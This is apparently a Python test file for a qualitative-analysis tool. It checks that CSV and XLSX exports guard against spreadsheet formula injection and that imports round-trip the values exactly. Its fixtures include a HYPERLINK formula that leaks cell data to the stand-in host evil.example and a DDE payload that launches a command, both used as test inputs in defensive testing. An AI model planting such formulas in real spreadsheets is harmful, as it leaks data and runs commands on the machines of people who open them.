"""Spreadsheet cells are text, never formulas (issue 12, item 8; OWASP CSV injection).

A project whose code names, descriptions, memos, case names, attribute values, summaries
and pseudonyms start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is exported
to every CSV and XLSX format. No CSV cell may start with a trigger (the ``'`` guard); no
XLSX cell may be a formula, and XLSX shows the value exactly (no visible prefix). Our own
importers take the CSV guard off again, so a round trip gives back exactly what was there.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest

from qualcoder_lite.core.formats.cells import is_dangerous

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CODE = "=SUM(1+1)"
SUB = "+cmd|' -C calc'!A0"
DESCRIPTION = "-2+3 reasons to worry"
MEMO = "\t@import memo"
CASE = "=cmd case"
PHONE = "+44 20 7946 0000"
SUMMARY = "@SUM(A1:A9) was said"


@pytest.fixture
def hostile(cli, tmp_path) -> Path:
    p = tmp_path / "hostile.qlite"
    transcript = tmp_path / "t1.txt"
    transcript.write_text("Interviewer: How was it?\n\nAnn: It was worrying, really worrying. We coped.\n\n"
                          "Interviewer: And then?\n\nAnn: Then the practice helped a lot.\n", encoding="utf-8")
    assert cli("new", p, "--coder", "alex").code == 0
    assert cli("import", p, transcript, "--case", CASE).code == 0
    assert cli("codes", p, "add", CODE, "--description", DESCRIPTION, "--memo", MEMO).code == 0
    assert cli("codes", p, "add", f"{CODE}/{SUB}").code == 0
    assert cli("autocode", p, "--code", CODE, "--pattern", "worrying", "--unit", "sentence").code == 0
    assert cli("autocode", p, "--code", f"{CODE}/{SUB}", "--pattern", "helped", "--coder", "sam").code == 0
    attrs = tmp_path / "attrs.csv"
    with open(attrs, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["case", "link", "note", "count"])
        w.writerow([CASE, LINK, PHONE, "-3"])
    r = cli("attributes", p, attrs, "--type", "link=text", "--type", "note=text")
    assert r.code == 0, r.err
    from qualcoder_lite.core.project import open_project
    from qualcoder_lite.core.services.matrix.summaries import SetCellSummary

    with open_project(p, coder="alex") as project:
        case_id = project.cases.id_of(CASE)
        project.execute(SetCellSummary(case_id, project.codes.resolve(CODE).id, SUMMARY))
    return p


def csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_safe(path: Path, *expected: str) -> None:
    cells = csv_cells(path)
    live = [c for c in cells if is_dangerous(c)]
    assert not live, f"{path.name}: cells a spreadsheet would run as formulas: {live}"
    for value in expected:
        assert any(c == "'" + value or c.startswith("'" + value) or value in c for c in cells), (path.name, value)


def assert_xlsx_safe(path: Path, *expected: str) -> list:
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), f"{path.name}:{name} has a formula"
    wb = load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                values.append(cell.value)
    texts = [v for v in values if isinstance(v, str)]
    for value in expected:  # shown exactly: no visible ' in front
        assert any(t == value or t.startswith(value) or value in t for t in texts), (path.name, value)
        assert not any(t.startswith("'" + value) for t in texts), (path.name, value)
    return values


def test_codebook_csv(cli, hostile, tmp_path):
    out = tmp_path / "codebook.csv"
    assert cli("codebook", hostile, "--out", out).code == 0
    assert_csv_safe(out, CODE, DESCRIPTION)


def test_matrix_csv_and_xlsx(cli, hostile, tmp_path):
    out = tmp_path / "m.csv"
    assert cli("matrix", hostile, "--out", out, "--with-quotes", "--group-by", "link").code == 0
    assert_csv_safe(out, CASE, CODE, SUMMARY, LINK)
    out = tmp_path / "m.xlsx"
    assert cli("matrix", hostile, "--out", out, "--with-quotes", "--group-by", "link").code == 0
    assert_xlsx_safe(out, CASE, CODE, SUMMARY, LINK)


def test_agreement_csv(cli, hostile, tmp_path):
    out = tmp_path / "agreement.csv"
    r = cli("agreement", hostile, "--coders", "alex", "sam", "--out", out)
    assert r.code == 0, r.err
    assert_csv_safe(out)
    assert any(CODE in c for c in csv_cells(out))


def test_attribute_sheet_csv_and_xlsx_round_trip(cli, hostile, tmp_path):
    out = tmp_path / "cases.csv"
    assert cli("export-attributes", hostile, out).code == 0
    assert_csv_safe(out, CASE, LINK, PHONE)
    assert "-3" in csv_cells(out)  # a plain number is no formula and keeps its form
    xlsx = tmp_path / "cases.xlsx"
    assert cli("export-attributes", hostile, xlsx).code == 0
    values = assert_xlsx_safe(xlsx, CASE, LINK, PHONE)
    assert -3 in values  # a number attribute is a number in Excel

    # our importer takes the guard off: a fresh project gets exactly the same values
    fresh = tmp_path / "fresh.qlite"
    assert cli("new", fresh).code == 0
    assert cli("import", fresh, tmp_path / "t1.txt", "--case", CASE).code == 0
    r = cli("attributes", fresh, out, "--type", "link=text", "--type", "note=text")
    assert r.code == 0, r.err
    before = {c["case"]: c["attributes"] for c in cli("cases", hostile, "list", "--json").json()}
    after = {c["case"]: c["attributes"] for c in cli("cases", fresh, "list", "--json").json()}
    assert after == before and after[CASE]["link"] == LINK and after[CASE]["note"] == PHONE


def test_codebook_csv_round_trip(cli, hostile, tmp_path):
    out = tmp_path / "codebook.csv"
    assert cli("codebook", hostile, "--out", out).code == 0
    fresh = tmp_path / "fresh.qlite"
    assert cli("new", fresh).code == 0
    r = cli("import-qdc", out, fresh)
    assert r.code == 0, r.err
    codes = {c["code"]: c["description"] for c in cli("codes", fresh, "list", "--json").json()}
    assert codes.get(CODE) == DESCRIPTION
    assert f"{CODE}/{SUB}" in codes


def test_retrieval_table_exports(hostile, tmp_path):
    from qualcoder_lite.core.formats.segments_export import write_segments
    from qualcoder_lite.core.project import open_project
    from qualcoder_lite.core.services.quotes.quoting import Quoter
    from qualcoder_lite.core.services.quotes.segments import segments

    with open_project(hostile) as project:
        segs = segments(project)
        quotes = {s.coding_id: Quoter(project).coding_quote(s) for s in segs}
        write_segments(segs, ["link", "note"], tmp_path / "seg.csv", project.name, quotes)
        write_segments(segs, ["link", "note"], tmp_path / "seg.xlsx", project.name, quotes)
    assert_csv_safe(tmp_path / "seg.csv", CASE, CODE, SUB)
    assert_xlsx_safe(tmp_path / "seg.xlsx", CASE, CODE, SUB)


def test_pseudonym_key_round_trip(cli, hostile, tmp_path):
    from qualcoder_lite.core.services.privacy.pseudonymise import read_key_csv

    key = tmp_path / "key.csv"
    key.write_text("real,pseudonym\nAnn,=Participant+1\n", encoding="utf-8")
    r = cli("pseudonymise", hostile, "apply", key)
    assert r.code == 0, r.err
    out = tmp_path / "kept-key.csv"
    assert cli("pseudonymise", hostile, "export-key", out).code == 0
    assert_csv_safe(out, "=Participant+1")
    assert [(real, pseudo) for _label, real, pseudo in read_key_csv(out)] == [("Ann", "=Participant+1")]


def test_codes_list_json_is_unguarded(cli, hostile):
    """JSON is not a spreadsheet: names are given exactly as they are."""
    names = [c["code"] for c in json.loads(cli("codes", hostile, "list", "--json").out)]
    assert CODE in names
